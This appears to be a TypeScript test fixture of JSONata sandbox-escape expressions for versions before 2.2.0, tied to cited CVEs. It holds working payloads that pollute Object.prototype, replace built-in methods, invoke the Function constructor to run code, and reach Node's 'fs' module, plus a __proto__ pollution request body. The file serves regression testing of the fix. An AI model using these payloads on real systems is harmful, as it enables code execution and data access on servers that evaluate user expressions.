/**
 * Expressions that reach for JavaScript's own objects, as jsonata before 2.2.0 lets them (CVE-2026-77415, CVE-2026-77413,
 * CVE-2026-12208). `$lookup({}, …)` sees what every object inherits; a setter of prototypes then makes the function
 * `Object` readable like an object.
 */

/** Binds `$static(name)`, the static functions of `Object`, and `$proto`, the prototype of all objects. */
const prelude = `
  $o := $lookup({}, "constructor");
  $f := $lookup({}, "__lookupSetter__");
  $sp := {"a":1}.($f("__proto__"));
  $h := {"a":1}.($o ~> $sp(); $);
  $static := function($name){$lookup($h, $name)};
  $proto := $lookup({}, "__proto__");
  $assign := $static("assign");
  $prototypeOf := $static("getPrototypeOf");
  $descriptors := $static("getOwnPropertyDescriptors");`;

function reaching(expression: string): string {
  return `(${prelude}\n${expression})`;
}

/** Each wants to give "reached"; some would also change what a later expression sees. */
export const reachingExpressions: Readonly<Record<string, string>> = {
  "pollutes the prototype of all objects": reaching(
    '$assign($proto, {"source": "x"}); $lookup({}, "source") ? "reached"',
  ),
  "gives every object a member that JSON.stringify calls": reaching(
    '$assign($proto, {"toJSON": $o}); $lookup({}, "toJSON") ? "reached"',
  ),
  "gives every list a member that JSON.stringify calls": reaching(
    '$assign($prototypeOf([1]), {"toJSON": $o}); "reached"',
  ),
  "replaces a method of all texts": reaching('$assign($prototypeOf("x"), {"includes": $o}); "reached"'),
  "replaces how promises go on": reaching(
    '$p := $lookup($lookup({"x": function($y){$y}}, "x"), "apply"); $assign($prototypeOf($p), {"call": $o}); "reached"',
  ),
  "defines a getter on the prototype of all objects": reaching(
    '$d := $lookup({}, "__defineGetter__"); $proto.($d("status", $o)); $lookup({}, "status") ? "reached"',
  ),
  "gives all objects another prototype": reaching('$static("setPrototypeOf")($proto, {"status":"up"}); "reached"'),
  "calls Function": reaching(
    '$c := $lookup($descriptors($prototypeOf($lookup({}, "toString"))), "constructor").value; $c("return 1")(); "reached"',
  ),
  "calls Function by the name of a built-in function": '$string.constructor("return 1")() = 1 ? "reached"',
  "calls the constructor of asynchronous functions": reaching(
    '$a := $lookup(function($x){$x}, "apply"); $c := $lookup($descriptors($prototypeOf($a)), "constructor").value; $c("return 1")(); "reached"',
  ),
  "replaces a built-in function's code": reaching(
    '$assign($uppercase, {"implementation": $lookup($lowercase, "implementation")}); $uppercase("x")',
  ),
  "merges a prototype into an object": '($merge([{"__proto__": {"polluted": "reached"}}]); $lookup({}, "polluted"))',
  "merges a prototype from the body": '($merge([body]); $lookup({}, "polluted"))',
  "pollutes through a grouping": '($x := {"__proto__": {"polluted": "reached"}}; $lookup({}, "polluted"))',
  "binds a variable named like the prototype": '($__proto__ := {"polluted": "reached"}; $lookup({}, "polluted"))',
  "binds into the frame of a function": `(
    $e := $lookup(function($x){$x}, "environment");
    $b := $lookup($e, "bind");
    $b("string", $uppercase);
    $string("reached") = "REACHED" ? "reached")`,
  "changes the clock that the engine holds": `(
    $t := $lookup($lookup(function($x){$x}, "environment"), "timestamp");
    $s := $lookup($t, "setTime");
    $t.($s(0));
    $now() ~> /^1970/ ? "reached")`,
  "reads the files of the machine":
    '$lookup($lookup({}, "constructor"), "process").mainModule.require("fs") ? "reached"',
};

/** The body that some of them read, for all. */
export const reachedBody = `{"body":{"__proto__":{"polluted":"reached"}}}`;
